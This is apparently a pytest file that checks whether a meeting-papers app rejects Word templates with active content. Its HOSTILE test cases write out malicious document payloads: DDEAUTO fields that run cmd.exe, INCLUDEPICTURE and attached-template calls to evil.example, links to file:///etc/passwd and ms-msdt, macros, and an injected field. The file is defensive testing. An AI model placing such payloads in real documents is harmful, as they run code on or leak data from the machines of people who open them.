"""Templates that somebody who may write into a community's library could put there."""

from __future__ import annotations

import io
import socket
import zipfile
from collections.abc import Callable
from importlib.resources import files

import pytest
from docx import Document
from docx.oxml.parser import parse_xml

from casework.circulate import papers_pack
from casework.directory_record import directory_of
from casework.documents import kept_paper
from communities.directory import Role
from papers.active_content import active_content
from papers.apart import render_apart
from papers.word import TemplateBroken, template
from tests.attack.made_apart import rendered, surroundings
from tests.conftest import World
from tests.test_filed_papers import MEETING_ID, mails, person
from tests.test_papers import own_template
from tests.test_sync import COMMUNITY, to_the_meeting
from tests.word_check import text_of

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_xml(xml: str) -> bytes:
    """A template with that in its first paragraph."""
    document = Document(io.BytesIO(own_template("{{ community }}")))
    document.paragraphs[0]._p.append(parse_xml(f'<w:r xmlns:w="{W}" xmlns:r="{R}">{xml}</w:r>'))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_field(*pieces: str) -> bytes:
    """A template with a field, its instruction cut into these pieces as Word does."""
    said = "".join(f'<w:instrText xml:space="preserve">{piece}</w:instrText>' for piece in pieces)
    return with_xml(f'<w:fldChar w:fldCharType="begin"/>{said}<w:fldChar w:fldCharType="end"/>')


def with_part(name: str, content: str | bytes, *, replacing: tuple[str, str] | None = None) -> bytes:
    """A template with one more part, or with something in a part replaced."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(own_template("{{ community }}"))) as old,
        zipfile.ZipFile(out, "w") as new,
    ):
        for member in old.namelist():
            part = old.read(member)
            if replacing and member == name:
                part = part.replace(*(r.encode() for r in replacing), 1)
            new.writestr(member, part)
        if not replacing:
            new.writestr(name, content)
    return out.getvalue()


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    """A template whose document is related to something elsewhere."""
    relation = f'<Relationship Id="rId900" Type="{R}/{kind}" Target="{target}"{mode}/></Relationships>'
    return with_part("word/_rels/document.xml.rels", "", replacing=("</Relationships>", relation))


OURS = sorted(f.name for f in (files("manifests") / "templates").iterdir() if f.name.endswith(".docx"))
HOSTILE: dict[str, Callable[[], bytes]] = {
    "a picture from elsewhere": lambda: with_field(' INCLUDEPICTURE "https://evil.example/?{{ community }}" '),
    "the same in pieces": lambda: with_field(" INCL", "UDEPIC", 'TURE "https://evil.example/x" '),
    "another program": lambda: with_field(' DDEAUTO cmd.exe "/k calc" '),
    "in small letters": lambda: with_field(" ddeauto cmd.exe "),
    "a simple field": lambda: with_xml('<w:fldSimple w:instr=" INCLUDETEXT file.docx "/>'),
    "a field in a field": lambda: with_xml(
        '<w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText><w:fldChar w:fldCharType="begin"/>'
        '<w:instrText> LINK Excel.Sheet x </w:instrText><w:fldChar w:fldCharType="end"/>'
        '<w:fldChar w:fldCharType="end"/>'
    ),
    "a template elsewhere": lambda: related("attachedTemplate", "https://evil.example/t.dotm"),
    "an image elsewhere": lambda: related("image", "https://evil.example/i.png"),
    "a link to a file of this machine": lambda: related("hyperlink", "file:///etc/passwd"),
    "a link that runs": lambda: related("hyperlink", "ms-msdt:/id"),
    "an embedded object": lambda: related("oleObject", "embeddings/o.bin", mode=""),
    "another document inside": lambda: with_xml('<w:altChunk r:id="rId1"/>'),
    "macros": lambda: with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    "a document with macros by its type": lambda: with_part(
        "[Content_Types].xml", "",
        replacing=("wordprocessingml.document.main", "wordprocessingml.document.macroEnabled.main"),
    ),
    "a field that a tag writes": lambda: own_template(
        """{{ '</w:t><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO x</w:instrText>"""
        """<w:fldChar w:fldCharType="end"/><w:t>'|safe }}"""
    ),
}  # fmt: skip
"""What a template may hold that does something once the document is opened."""


@pytest.mark.parametrize("what", HOSTILE)
def test_a_template_that_does_something_is_refused_with_a_sentence(what: str) -> None:
    with pytest.raises(TemplateBroken) as refused:
        render_apart(rendered, "ABC", HOSTILE[what]())
    assert "which our papers may not. Take it out in Word" in str(refused.value)


@pytest.mark.parametrize("field", [" PAGE ", " NUMPAGES \\* MERGEFORMAT ", ' DATE \\@ "d MMMM yyyy" '])
def test_page_numbers_dates_and_links_may_stand_in_it(field: str) -> None:
    assert active_content(with_field(field)) == ""
    for link in ("https://kent.example/", "mailto:clerk@kent.example", "#heading"):
        assert active_content(related("hyperlink", link)) == ""


@pytest.mark.parametrize("name", OURS)
def test_our_own_templates_hold_none(name: str) -> None:
    assert active_content(template(name)) == ""


def test_the_process_apart_knows_no_settings_and_no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COS_PUPIL_KEYS", "secret")
    with socket.create_server(("127.0.0.1", 0)) as server:
        said = render_apart(surroundings, str(server.getsockname()[1]), own_template("x")).decode()
    assert "COS_" not in said
    assert "PATH" not in said
    assert said.endswith("'alone')")


async def test_a_template_counts_if_chair_clerk_or_administrator_saved_it_last(world: World) -> None:
    with world.desk.work() as work:
        senco = directory_of(work).attendees_of(COMMUNITY)[-1].mail
    await world.hand.save_file(COMMUNITY, "Templates/agenda.docx", own_template("Our own: {{ community }}"), senco)
    await to_the_meeting(world)
    with world.desk.work() as work:
        assert "Communities of Schools Meeting Agenda" in text_of(kept_paper(work, MEETING_ID, "agenda").content)
    (told,) = await mails(world, "The template agenda.docx needs mending")
    assert f"It was last saved by {senco}." in str(told["body"])


async def test_what_names_pupils_is_made_from_our_own_template_whatever_lies_in_the_library(world: World) -> None:
    clerk = person(world, Role.CLERK)
    for name in ("papers-pack.docx", "request-form.docx"):
        await world.hand.save_file(COMMUNITY, f"Templates/{name}", own_template("Mine: {{ community }}"), clerk)
    await to_the_meeting(world)
    with world.desk.work() as work:
        papers_pack(work, MEETING_ID, True)
    (pack,) = await mails(world, "Restricted: papers pack")
    assert "Mine:" not in str(pack)
